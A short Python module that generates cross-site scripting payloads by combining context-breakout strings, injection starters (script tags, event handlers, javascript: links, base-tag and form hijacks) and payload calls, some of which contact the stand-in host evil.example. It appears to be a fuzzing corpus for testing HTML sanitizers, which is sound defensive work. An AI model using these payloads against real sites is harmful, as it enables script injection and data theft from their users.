"""Texts that would like to be programs: every way out of a place in a page, times every way to start running, times what is then run."""

from __future__ import annotations

from itertools import product

# What would be seen: a mark on the window, a request to another host, a changed title, a dialog.
CALLS = ("window.fired=1", "fetch('//evil.example')", "document.title='taken'", "alert(1)")

# From where a text may have to break out first: text, attributes, raw-text elements, comments, templates, JSON, URLs.
WAYS_OUT = (
    "", '">', "'>", "`>", "--!>", "</title>", "</textarea>", "</script>", "</style>", "</option></select>", "</template>", "]]>",
    "}}", "{{", '"}', "\\x3c", "&lt;", "\u202e", "\x0b",
)  # fmt: skip

# What starts a program, or asks for something: elements, handlers, addresses, templates of other engines.
STARTS = (
    "<script>{0}</script>", "<img src=x onerror={0}>", "<svg/onload={0}>", "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<body onpageshow={0}>", "<details open ontoggle={0}>", "<input autofocus onfocus={0}>", "<a href=javascript:{0}>x</a>",
    "<base href=//evil.example/><script src=x>{0}</script>", "<form action=//evil.example><button formaction=javascript:{0}>",
    "<link rel=stylesheet href=//evil.example/{0}>", "<video src=//evil.example onerror={0}></video>", "${{{0}}}",
    "<div hx-get=//evil.example hx-trigger=load x-data x-init={0}>",
)  # fmt: skip


def vectors(count: int = 1_000) -> list[str]:
    """``count`` different ones, spread over all combinations."""
    made = [way + start.format(call) for way, start, call in product(WAYS_OUT, STARTS, CALLS)]
    assert len(set(made)) == len(made) >= count
    step = len(made) / count
    return [made[int(number * step)] for number in range(count)]
